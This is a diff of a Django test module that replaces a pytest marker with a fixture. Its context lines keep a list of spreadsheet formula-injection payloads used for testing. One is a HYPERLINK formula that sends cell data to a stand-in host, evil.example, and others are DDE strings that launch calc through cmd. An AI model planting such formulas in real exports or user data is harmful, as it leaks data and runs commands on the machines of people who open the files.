@@ -21,7 +21,7 @@ from tests.factories import PracticePageFactory
 from tests.participation.test_calls import ANSWERS, make_call
 from tests.practices.test_import_export import run_import
 
-pytestmark = [pytest.mark.django_db, pytest.mark.demo]
+pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("small_corpus")]
 PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "@SUM(1+1)*cmd|' /C calc'!A0",
             "+33 4 92 00 00 00 =1+1", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
             "'=already quoted"]
